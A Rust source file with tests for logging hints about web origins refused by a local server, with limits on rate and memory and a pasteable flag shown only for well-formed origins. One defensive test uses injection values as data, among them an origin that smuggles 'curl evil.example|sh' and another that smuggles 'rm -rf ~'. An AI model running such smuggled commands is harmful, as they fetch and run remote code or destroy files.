//! Telling the operator that a page was refused for its origin, and how to allow it.
//! Without it a page served elsewhere (the reference React client on port 3000, say)
//! sits empty while the log says nothing. A hostile page can send endless distinct
//! origins, so what is remembered and what is logged are both bounded; and since an
//! operator may paste the hint into a shell, it names only well-formed origins.

use std::collections::HashSet;
use std::hash::{BuildHasher, RandomState};
use std::time::{Duration, Instant};

/// Distinct origins remembered as told; past it the memory starts over (a flood of
/// made-up origins then costs at most one more line per origin, within the budget).
pub const REMEMBERED: usize = 256;
/// Lines told per [`WINDOW`], in all, whatever the number of origins.
pub const LINES_PER_WINDOW: u32 = 10;
/// The span of the line budget.
pub const WINDOW: Duration = Duration::from_secs(60);
/// The longest origin repeated in a line; a longer one is cut.
const SHOWN: usize = 100;

/// Which refused origins were told, and how many lines the current window has left.
#[derive(Debug, Default)]
pub struct OriginHints {
    /// Hashes of the origins told (8 bytes each, however long the header).
    told: HashSet<u64>,
    /// Keys random to this process, so that a page cannot choose origins that collide
    /// with one it wants kept quiet.
    keys: RandomState,
    /// When the current window of the budget began.
    window_start: Option<Instant>,
    /// Lines told in the current window.
    lines: u32,
    /// New origins refused but not told since the last line, for want of budget.
    untold: u64,
}

/// What to log about one refusal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hint {
    /// The refused origin, cut to a readable length.
    pub origin: String,
    /// The flag that would allow it, keeping those allowed now; `None` when the origin
    /// is not a plain `http(s)://host[:port]` (nothing to paste into a shell).
    pub flag: Option<String>,
    /// New origins refused before this one and not told (over the budget).
    pub untold: u64,
}

impl OriginHints {
    /// A refusal of `origin` at `now`, with `allowed` the origins allowed now: the line
    /// to log, or `None` when this origin was told already or the budget is spent.
    pub fn refused(&mut self, origin: &str, allowed: &[String], now: Instant) -> Option<Hint> {
        let origin = origin.trim().to_ascii_lowercase();
        let key = self.keys.hash_one(&origin);
        if self.told.contains(&key) {
            return None;
        }
        let fresh = self
            .window_start
            .is_none_or(|start| now.duration_since(start) >= WINDOW);
        if fresh {
            self.window_start = Some(now);
            self.lines = 0;
        }
        if self.lines >= LINES_PER_WINDOW {
            self.untold += 1;
            return None;
        }
        if self.told.len() >= REMEMBERED {
            self.told.clear();
        }
        self.told.insert(key);
        self.lines += 1;
        let flag = well_formed(&origin).then(|| {
            let list: Vec<&str> = allowed
                .iter()
                .map(String::as_str)
                .chain([origin.as_str()])
                .collect();
            format!("--allowed-origins {}", list.join(","))
        });
        Some(Hint {
            origin: origin.chars().take(SHOWN).collect(),
            flag,
            untold: std::mem::take(&mut self.untold),
        })
    }
}

/// Whether `origin` is `http(s)://host[:port]` with a host of letters, digits, dots and
/// dashes (or a bracketed IPv6 address): safe to show in a command line.
fn well_formed(origin: &str) -> bool {
    let Some(authority) = origin
        .strip_prefix("http://")
        .or_else(|| origin.strip_prefix("https://"))
    else {
        return false;
    };
    let host_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']');
    authority.len() <= SHOWN && !authority.is_empty() && authority.chars().all(host_char)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Vec<String> {
        vec![
            "http://127.0.0.1:8080".into(),
            "http://localhost:8080".into(),
        ]
    }

    #[test]
    fn the_first_refusal_of_an_origin_is_told_with_the_flag_that_allows_it() {
        let mut hints = OriginHints::default();
        let now = Instant::now();
        let hint = hints.refused("http://127.0.0.1:3000", &allowed(), now);
        assert_eq!(
            hint,
            Some(Hint {
                origin: "http://127.0.0.1:3000".into(),
                flag: Some(
                    "--allowed-origins http://127.0.0.1:8080,http://localhost:8080,\
                     http://127.0.0.1:3000"
                        .into()
                ),
                untold: 0,
            })
        );
        assert_eq!(
            hints.refused("http://127.0.0.1:3000", &allowed(), now),
            None
        );
        assert_eq!(
            hints.refused("HTTP://127.0.0.1:3000 ", &allowed(), now + WINDOW * 5),
            None,
            "the same origin, however written, is told once"
        );
    }

    #[test]
    fn many_origins_cost_a_bounded_number_of_lines_and_of_memory() {
        let mut hints = OriginHints::default();
        let start = Instant::now();
        let told = (0..10_000)
            .filter(|i| {
                let origin = format!("http://evil{i}.example");
                hints.refused(&origin, &[], start).is_some()
            })
            .count();
        assert_eq!(told, LINES_PER_WINDOW as usize, "one window's budget");
        assert!(hints.told.len() <= REMEMBERED);
        // a minute later the budget is back, and the line says how many went untold
        let hint = hints
            .refused("http://127.0.0.1:3000", &[], start + WINDOW)
            .unwrap();
        assert_eq!(hint.untold, 10_000 - u64::from(LINES_PER_WINDOW));
        for minute in 2..200 {
            let now = start + WINDOW * minute;
            for i in 0..LINES_PER_WINDOW {
                hints.refused(&format!("http://m{minute}-{i}.example"), &[], now);
            }
        }
        assert!(hints.told.len() <= REMEMBERED, "{}", hints.told.len());
    }

    #[test]
    fn an_origin_that_is_not_plain_gets_no_command_to_paste() {
        let mut hints = OriginHints::default();
        let now = Instant::now();
        for origin in [
            "null",
            "http://x$(curl evil.example|sh)",
            "http://a.example\"; rm -rf ~",
            "file://",
            "http://",
        ] {
            let hint = hints.refused(origin, &allowed(), now).unwrap();
            assert_eq!(hint.flag, None, "{origin}");
        }
        let long = format!("http://{}.example", "a".repeat(5000));
        let hint = hints.refused(&long, &allowed(), now).unwrap();
        assert_eq!(hint.flag, None);
        assert_eq!(hint.origin.len(), SHOWN);
        let hint = hints
            .refused("https://[::1]:3000", &allowed(), now)
            .unwrap();
        assert!(hint.flag.unwrap().ends_with(",https://[::1]:3000"));
    }
}
